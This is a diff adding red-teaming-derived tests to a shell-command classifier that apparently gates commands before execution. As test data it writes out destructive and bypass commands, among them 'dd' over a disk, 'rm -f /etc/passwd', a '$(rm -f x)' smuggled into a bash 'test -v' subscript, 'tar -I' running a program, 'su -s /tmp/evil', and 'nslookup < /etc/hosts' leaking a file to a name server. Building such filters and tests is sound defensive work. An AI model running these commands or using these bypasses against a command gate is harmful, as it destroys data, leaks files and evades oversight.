@@ -20,7 +20,8 @@ const cases: [string, string, string[]][] = [
   ['doas reboot', 'privileged', ['privilege_escalation', 'service_control']],
   ["su -c 'id' root", 'privileged', ['privilege_escalation']],
   ['rm -rf build', 'destructive', ['destructive_file']],
-  ['find / -name core -delete', 'destructive', ['destructive_file']],
+  ['find / -name core -delete', 'privileged', ['destructive_file', 'system_path_write']],
+  ['find /tmp/x -name core -delete', 'destructive', ['destructive_file']],
   ['find . -exec shred {} \\;', 'destructive', ['destructive_file']],
   ['timeout 5 rm x', 'destructive', ['destructive_file']],
   ['dd if=/dev/zero of=/dev/sda', 'destructive', ['disk_tool']],
@@ -257,4 +258,91 @@ test('an oversized command is refused without being parsed', () => {
   const r = inspectCommand(`echo ${'a'.repeat(70 * 1024)}`);
   assert.equal(r.class, 'opaque');
   assert.match(r.reasons.join(), /longer than 65536 bytes/);
+});
+
+test('deeply nested commands are refused, never thrown: a parse or walk that exhausts the stack is opaque', () => {
+  // Found by red-teaming: these threw out of inspectCommand (an unhandled rejection on the exec
+  // path, which ends the gateway process).
+  const deep = [
+    `${'('.repeat(1000)}ls${')'.repeat(1000)}`,
+    `${'{ '.repeat(1000)}ls${'; }'.repeat(1000)}`,
+    `cat <<EOF\n${'$('.repeat(1000)}ls${')'.repeat(1000)}\nEOF`,
+    `echo $((${'('.repeat(1000)}1${')'.repeat(1000)}))`,
+    Array(5000).fill('ls').join(' | '),
+    Array(5000).fill('ls').join(' && '),
+  ];
+  for (const text of deep) {
+    const r = inspectCommand(text);
+    assert.equal(r.class, 'opaque', text.slice(0, 40));
+    assert.equal(r.rebuilt, undefined);
+  }
+  assert.equal(inspectCommand('ls | cat').class, 'read', 'the parser still works afterwards');
+});
+
+test("tar's old-style options take their values in order: `tar tfI ARCHIVE PROG` runs PROG (found by red-teaming)", () => {
+  // GNU tar reads `tfI x.tar id` as -t, -f x.tar, -I id: `id` is run as the decompressor.
+  assert.equal(inspectCommand("tar tfI x.tar 'rm -f x'").class, 'opaque');
+  // `-f` takes `host:x`, not `v`: tar reaches the host through rsh.
+  assert.deepEqual(inspectCommand('tar tfv host:x.tar').categories, ['network_exfiltration']);
+  assert.equal(inspectCommand('tar tf').class, 'opaque');
+  for (const ok of ['tar tf x.tar', 'tar tvf x.tar', 'tar tfv x.tar', 'tar tzvf x.tgz', 'tar -tvf x.tar']) assert.equal(inspectCommand(ok).class, 'read', ok);
+});
+
+test('deleting under a system path is privileged however the path is reached: after `cd`, by find -delete, in a later command of the same shell (found by red-teaming)', () => {
+  const systemPath = (text: string, state = {}) => inspectCommand(text, state).categories.includes('system_path_write');
+  assert.ok(systemPath('rm -f /etc/passwd'));
+  assert.ok(systemPath('cd /etc && rm -f passwd'), 'rm after cd');
+  assert.ok(systemPath('cd / && rm -rf etc'));
+  assert.ok(systemPath('cd /etc; truncate -s0 passwd'));
+  assert.ok(systemPath('find /etc -name x -delete'), 'find -delete under a system path');
+  assert.ok(systemPath('cd /etc && find -delete'), 'find -delete from an unknown directory');
+  assert.ok(!systemPath('rm -f x.tmp'));
+  assert.ok(!systemPath('find /tmp/x -delete'));
+  // An interactive shell keeps its directory between commands: the relay says so.
+  assert.ok(systemPath('echo x > passwd', { movedDirectory: true }));
+  assert.ok(systemPath('rm -f passwd', { movedDirectory: true }));
+  assert.ok(!systemPath('echo x > passwd'));
+  assert.equal(inspectCommand('cat passwd', { movedDirectory: true }).class, 'read');
+});
+
+test('su runs the last `-c`, with the shell `-s` names: both are opaque (found by red-teaming)', () => {
+  // util-linux su: `su -c 'echo A' -c 'echo B' root` prints B; `su -s /bin/echo -c hi root` runs echo.
+  assert.equal(inspectCommand("su -c 'ls' -c 'rm -rf /tmp/x' root").class, 'opaque');
+  assert.equal(inspectCommand("su -c 'ls' root -c 'rm -rf /tmp/x'").class, 'opaque');
+  assert.equal(inspectCommand("su -s /tmp/evil -c 'ls' root").class, 'opaque');
+  assert.equal(inspectCommand("su --shell=/tmp/evil -c 'ls' root").class, 'opaque');
+  assert.deepEqual(inspectCommand("su -c 'ls' root").binaries, ['su', 'ls']);
+});
+
+test("`test -v 'a[$(cmd)]'` runs cmd in bash (the subscript is arithmetic): opaque (found by red-teaming)", () => {
+  for (const c of ["test -v 'a[$(rm -f x)]'", "[ -v 'a[$(rm -f x)]' ]", "[ ! -v 'a[$(rm -f x)]' ]", "test -z x -a -v 'a[$(rm -f x)]'", 'test -R x']) {
+    assert.equal(inspectCommand(c).class, 'opaque', c);
+  }
+  for (const c of ['test -f /etc/hosts', '[ -d /var/log ]', '[ -n x -a -z "" ]']) assert.equal(inspectCommand(c).class, 'read', c);
+});
+
+test('`git reflog expire`/`delete` change the repository: not read (found by red-teaming)', () => {
+  assert.equal(inspectCommand('git reflog expire --all').class, 'write');
+  assert.equal(inspectCommand('git reflog delete x').class, 'write');
+  for (const c of ['git reflog', 'git reflog show', 'git reflog -n 5 main', 'git reflog --all']) assert.equal(inspectCommand(c).class, 'read', c);
+});
+
+test('`nslookup` without a name reads queries from its input: a file\'s lines would go to a name server (found by red-teaming)', () => {
+  assert.equal(inspectCommand('nslookup < /etc/hosts').class, 'opaque');
+  assert.equal(inspectCommand('nslookup - 1.2.3.4 < /etc/hosts').class, 'opaque');
+  assert.equal(inspectCommand('nslookup example.com').class, 'read');
+});
+
+test('`hostnamectl hostname NAME` sets the host name: not read (found by red-teaming)', () => {
+  assert.deepEqual(inspectCommand('hostnamectl hostname evil').categories, ['service_control']);
+  assert.equal(inspectCommand('hostnamectl hostname').class, 'read');
+});
+
+test('a `cd` in a while/until loop moves its later passes: relative paths in the loop land anywhere (found by red-teaming)', () => {
+  // The second pass of `while …; do echo hi > passwd; cd /etc; done` writes /etc/passwd.
+  assert.ok(inspectCommand('while ! test -e x; do echo hi > passwd; cd /etc; done').categories.includes('system_path_write'));
+  assert.ok(inspectCommand('until test -e x; do rm -f passwd; cd /etc; done').categories.includes('system_path_write'));
+  const doc = inspectCommand('while ! test -e x; do cat <<EOF\nbody\nEOF\ncd /tmp; done');
+  assert.equal(doc.rebuilt, "while ! test -e x; do cat <<'AIRLOCK_EOF'; cd /tmp; done\nbody\nAIRLOCK_EOF\n", 'the here-document is written once');
+  assert.equal(inspectCommand('while ! test -e x; do echo hi > out; done').class, 'write');
 });
